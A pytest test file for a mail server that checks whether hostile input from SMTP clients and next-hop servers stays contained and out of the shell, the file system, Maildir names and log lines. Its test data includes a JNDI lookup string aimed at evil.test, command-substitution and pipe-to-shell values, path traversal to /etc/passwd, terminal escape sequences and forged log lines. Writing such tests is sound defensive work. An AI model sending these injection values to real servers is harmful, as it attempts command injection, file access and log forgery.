"""Words that would mean something to a shell, a file system, a log reader or a terminal, sent by clients and by next
hops: none leaves its place."""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.kit.server import Server
from tests.kit.sink import ScriptedServer
from tests.kit.waiting import wait_for

LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z S?[0-9A-Z]{12} [a-z-]+ .*")
FORGED = "2026-01-01T00:00:00.000Z 000000000000 delivered to=<x@y.test>"

HELLOS = [
    *("${jndi:ldap://evil.test/x}", "$(reboot)", "../../etc/passwd", "`id`", "-oQ/tmp", "%s%n", "a\\r\\nX:y", "'||1"),
    *("[127.0.0.1]", "a" * 255, "client=192.0.2.1", "x;helo=y"),
]
# Local parts, and the name of the Maildir; "" where none can have that name.
LOCALS = {
    "|id": "|id",
    '"|/bin/sh -c id"': "",
    "/etc/passwd": "",
    "-froot": "-froot",
    "${IFS}": "${ifs}",
    "`id`": "`id`",
    "{local}": "{local}",
    "{domain}": "{domain}",
    '"../x"': "",
    '".."': "",
    '"."': "",
    '""': "",
    '"a/../../x"': "",
    '".hidden"': "",
    '"..\\/x"': "",
    "*": "*",
    "?": "?",
    "%2e%2e%2f": "%2e%2e%2f",
    '"a b"': "a b",
    '" "': " ",
    '"x> size=1 to=<root"': "x> size=1 to=<root",
    "new": "new",
    "con": "con",
    "x" * 64: "x" * 64,
    '"a\\\\b"': "a\\b",
    "$(id)": "-",  # no address at all
    '"a\nb"': "-",
    '"a\rb"': "-",
    '"a\0b"': "-",
    '"a\x1b[31m"': "-",
    "a\x85b": "-",
    "a\xe2\x80\xa8b": "-",
}
# What a next hop may say behind its code.
WORDS = [
    b"\x1b[31mred\x1b]0;title\x07 \x9b31m \x7f",
    b"\xe2\x80\xa8" + FORGED.encode(),
    b"\x85" + FORGED.encode() + b"\x0b\x0c" + FORGED.encode(),
    b"${jndi:ldap://evil.test/x} $(reboot) `id` %s%n {0} {}",
    b"\xe2\x80\xaeevil\xef\xbb\xbf \xff\xfe\xc0\xaf",
    b"x" * 5000,
    b'ok" relay=evil.test status="250 2.0.0 taken',
    b"\\n\\r\\x0a" + FORGED.encode(),
]


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    with Server(tmp_path, limits={"errors": 10_000}) as server:
        yield server


def check_log(server: Server) -> list[str]:
    """Each line is a whole one of ours, and no character of it is obeyed by a terminal."""
    lines = server.log.read_text("utf-8").split("\n")
    assert lines.pop() == ""
    assert not [line for line in lines if not line.isprintable()]
    assert not [line for line in lines if not LINE.fullmatch(line)]
    assert not [line for line in lines if " 000000000000 " in line[:40]]
    return lines


def test_what_clients_say_stays_in_its_place(server: Server, tmp_path: Path) -> None:
    before = sorted(os.listdir(tmp_path))
    with server.talk() as talk:
        assert talk.reply().startswith("220")
        sent = 0
        for number, (local, name) in enumerate(LOCALS.items()):
            talk.expect(f"EHLO {HELLOS[number % len(HELLOS)]}", "250")
            path = local.encode("latin-1") + b"@home.test"
            if name == "-":
                assert talk.ask(b"MAIL FROM:<" + path + b">")[:3] in ("500", "501", "553"), local
                talk.expect("MAIL FROM:<>", "250")
                assert talk.ask(b"RCPT TO:<" + path + b">")[:3] in ("500", "501", "553"), local
                continue
            talk.expect(b"MAIL FROM:<" + path + b">", "250")
            talk.expect(b"RCPT TO:<" + path + b">", "250" if name else "550 5.1.1")
            if name:
                talk.expect("DATA", "354")
                talk.expect(f"Subject: x\r\n\r\n{FORGED}\r\n.", "250")
                sent += 1
    for name in filter(None, set(LOCALS.values()) - {"-"}):
        server.wait_letters(name)
    wait_for(lambda: server.count() == 0, what="an empty queue")
    assert set(os.listdir(tmp_path)) <= {*before, "mail", "mail.log"}
    assert os.listdir(tmp_path / "mail") == ["home.test"]
    assert set(os.listdir(tmp_path / "mail/home.test")) == set(filter(None, LOCALS.values())) - {"-"}
    received = [line for line in check_log(server) if line.split(" ")[2] == "received"]
    assert len(received) == sent


def test_what_utf8_could_hide_is_shown(server: Server) -> None:
    """With SMTPUTF8 an address may hold most of Unicode; the log shows what a terminal would obey or hide."""
    with server.talk() as talk:
        talk.hello()
        for character in "\u202e\u2066\u200b\ufeff\u061c\U000e0041\u0085\u2028":
            path = f"a{character}b@home.test".encode()
            if talk.ask(b"MAIL FROM:<" + path + b"> SMTPUTF8").startswith("250"):
                if talk.ask(b"RCPT TO:<" + path + b">").startswith("250"):
                    talk.expect("DATA", "354")
                    talk.expect("x\r\n.", "250")
                talk.expect("RSET", "250")
    server.wait_empty()
    check_log(server)


def test_what_next_hops_say_stays_in_its_place(tmp_path: Path) -> None:
    answers = [b"450 4.2.0 " + words + b"\r\n" for words in WORDS]
    script = {"RCPT": [b"450-4.2.0 one\r\n450 4.2.0 two" + WORDS[1] + b"\r\n", *answers]}
    with ScriptedServer(script) as hop, Server(tmp_path, routes={"*": hop.next_hop}, retry={"first": "1h"}) as server:
        ids = [server.send("ann@home.test", ["bob@far.test"], b"x\r\n") for _ in range(len(answers) + 1)]
        for message_id in ids:
            server.wait_part(message_id, "deferred")
            told = server.ctl("queue", "explain", message_id)
            assert all(character.isprintable() for line in told.split("\n") for character in line), told
        wait_for(lambda: server.log.read_text().count(" deferred ") >= len(ids), what="all lines of the log")
        lines = check_log(server)
        assert len([line for line in lines if line.split(" ")[2] == "received"]) == len(ids)
        assert max(map(len, lines)) < 4000
        assert all(line.count('"') == 2 for line in lines if " deferred " in line)


def test_a_line_of_a_megabyte_is_refused_once_and_forgotten(server: Server) -> None:
    with server.talk() as talk:
        talk.hello()
        for line in (b"NOOP " + b"x" * (1 << 20), b"\xff" * (1 << 20), b"\0" * (1 << 20), b"EHLO " + b"\r" * (1 << 20)):
            talk.expect(line, "500 5.5.2")
            talk.expect("NOOP", "250")
        talk.expect("MAIL FROM:<ann@home.test>", "250")
        talk.expect(b"RCPT TO:<" + b"x" * (1 << 20) + b"@home.test>", "500 5.5.2")
        talk.expect("RCPT TO:<bob@home.test>", "250")


def test_who_speaks_before_the_greeting_is_answered_in_order(server: Server) -> None:
    with server.talk() as talk:
        talk.socket.sendall(b"EHLO early.test\r\nMAIL FROM:<ann@home.test>\r\nGET / HTTP/1.1\r\nQUIT\r\n")
        assert [talk.reply()[:3] for _ in range(4)] == ["220", "250", "250", "421"]
        assert talk.closed()
